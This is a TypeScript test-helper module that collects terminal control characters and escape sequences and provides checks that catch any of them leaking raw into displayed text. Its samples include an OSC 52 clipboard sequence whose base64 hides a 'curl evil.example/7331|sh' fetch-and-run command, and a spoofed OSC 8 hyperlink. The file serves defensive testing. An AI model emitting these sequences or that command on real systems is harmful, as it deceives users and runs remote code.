/**
 * Text a terminal would obey or hide, for tests of everything a person reads: each character and
 * escape sequence by itself (to put into one field at a time) and all of them at once (for the few
 * runs through a real terminal), plus a check that finds any of them left raw in what was shown.
 */

/** One character or escape sequence a terminal must never receive from untrusted text. */
export interface HostileSample {
  /** `U+001B`, `OSC 52 (clipboard)`: for test names and failure messages. */
  name: string;
  text: string;
}

const range = (from: number, to: number): number[] => Array.from({ length: to - from + 1 }, (_, i) => from + i);

/** C0 (U+0000–U+001F), DEL, C1 (U+0080–U+009F). */
const CONTROLS = [...range(0x00, 0x1f), 0x7f, ...range(0x80, 0x9f)];
/** Embeddings and overrides, isolates, the marks, the Arabic letter mark. */
const BIDI = [...range(0x202a, 0x202e), ...range(0x2066, 0x2069), 0x200e, 0x200f, 0x061c];
/** Zero-width space, non-joiner, joiner, word joiner, byte order mark. */
const ZERO_WIDTH = [...range(0x200b, 0x200d), 0x2060, 0xfeff];
/** Line and paragraph separators: line breaks to some terminals and editors. */
const SEPARATORS = [0x2028, 0x2029];

const hex = (cp: number): string => `U+${cp.toString(16).toUpperCase().padStart(4, '0')}`;

/** Every C0, DEL, C1, bidi, zero-width and separator character, one sample each. */
export const HOSTILE_CHARACTERS: readonly HostileSample[] = [...CONTROLS, ...BIDI, ...ZERO_WIDTH, ...SEPARATORS].map((cp) => ({
  name: hex(cp),
  text: String.fromCodePoint(cp),
}));

/**
 * Escape sequences that do something: hide text, paint, clear the screen, move the cursor, make a
 * hyperlink whose target differs from its text (OSC 8), set the clipboard (OSC 52), and the same
 * through C1's one-byte CSI and OSC. Each carries `7331` or `evil` so a test can tell it from the
 * sequences a prompt library draws itself.
 */
export const HOSTILE_SEQUENCES: readonly HostileSample[] = [
  { name: 'CSI SGR 8 (hidden text)', text: '\u001b[8m' },
  { name: 'CSI SGR colour', text: '\u001b[38;5;7331m' },
  { name: 'CSI clear screen', text: '\u001b[2J\u001b[7331;1H' },
  { name: 'CSI cursor up and erase line', text: '\u001b[7331A\u001b[2K' },
  // No `/` in any sample, so each fits in a file name.
  { name: 'OSC 8 hyperlink', text: '\u001b]8;;mailto:evil@example.com?7331\u001b\\harmless.txt\u001b]8;;\u001b\\' },
  { name: 'OSC 52 clipboard', text: '\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUvNzMzMXxzaA==\u0007' },
  { name: 'OSC title', text: '\u001b]0;evil 7331\u001b\\' },
  { name: 'C1 CSI', text: '\u009b7331m' },
  { name: 'C1 OSC 52', text: '\u009d52;c;ZXZpbA==\u009c' },
];

/** Every sample: characters, then sequences. */
export const HOSTILE_SAMPLES: readonly HostileSample[] = [...HOSTILE_CHARACTERS, ...HOSTILE_SEQUENCES];

/**
 * The word that follows each sample in `hostileText` and `around`: a line that starts with it
 * means a line break from untrusted text reached the screen as a line break.
 */
export const SPOOF_MARK = 'SPOOF';

/**
 * A sample with ordinary text on both sides, as it would sit inside a name, a path or a command.
 *
 * @example around({ name: 'U+202E', text: '\u202E' }) // 'a\u202ESPOOF'
 */
export function around(sample: HostileSample): string {
  return `a${sample.text}${SPOOF_MARK}`;
}

/**
 * Samples in one text (each followed by `SPOOF_MARK` and its number), for a run through a real
 * terminal that carries many at once. `withoutNul` leaves NUL out (an argv or a file name cannot
 * hold it); no sample holds a `/`, so a few at a time make a file name (which must stay under
 * 255 bytes: pass `samples`).
 *
 * @example hostileText({ samples: HOSTILE_SEQUENCES }) // 'x\u001b[8mSPOOF0x\u001b[38;5;7331mSPOOF1…'
 */
export function hostileText(options: { withoutNul?: boolean; samples?: readonly HostileSample[] } = {}): string {
  return (options.samples ?? HOSTILE_SAMPLES)
    .filter((s) => !(options.withoutNul === true && s.text === '\u0000'))
    .map((s, i) => `x${s.text}${SPOOF_MARK}${i}`)
    .join('');
}

/** Any one hostile character (the sequences all start with ESC or a C1 control, so they are found too). */
const RAW = new RegExp(`[${[...CONTROLS, ...BIDI, ...ZERO_WIDTH, ...SEPARATORS].map((cp) => `\\u${cp.toString(16).padStart(4, '0')}`).join('')}]`, 'gu');

/**
 * The hostile characters left raw in `shown` (empty when there are none), each with its position,
 * for an assertion that says what leaked. `lines: true` allows line breaks (`\n`, and `\r\n` when
 * `crlf` is set, as a pseudo-terminal sends them) for text shown as several lines; tabs and
 * everything else are never allowed.
 *
 * @example expect(rawHostile(promptText(facts), { lines: true })).toEqual([]);
 */
export function rawHostile(shown: string, options: { lines?: boolean; crlf?: boolean } = {}): string[] {
  const found: string[] = [];
  for (const match of shown.matchAll(RAW)) {
    const char = match[0];
    const at = match.index;
    if (options.lines === true && char === '\n') continue;
    if (options.lines === true && options.crlf === true && char === '\r' && shown[at + 1] === '\n') continue;
    found.push(`${hex(char.codePointAt(0)!)} at ${at}: …${JSON.stringify(shown.slice(Math.max(0, at - 20), at + 20))}…`);
  }
  return found;
}

const NAMED: Record<string, string> = { '\n': '\\n', '\t': '\\t', '\r': '\\r' };

/**
 * How the display rules show `text` visibly: each hostile character as `\n`, `\t`, `\r` or
 * `\uXXXX`, everything else as it is. A test checks that this form is what a person reads.
 *
 * @example visibleForm('a\u001b[8m') // 'a\\u001B[8m'
 */
export function visibleForm(text: string): string {
  return text.replace(RAW, (char) => NAMED[char] ?? `\\u${char.codePointAt(0)!.toString(16).toUpperCase().padStart(4, '0')}`);
}

/**
 * Lines of `shown` that start (after blanks) with `SPOOF_MARK`: a line break from untrusted text
 * that reached the screen as a line break, so the text after it could pass for a line of its own.
 *
 * @example expect(spoofedLines(statusLine)).toEqual([]);
 */
export function spoofedLines(shown: string): string[] {
  return shown.split(/\r?\n|\r/).filter((line) => new RegExp(`^[ \\t]*${SPOOF_MARK}`).test(line));
}
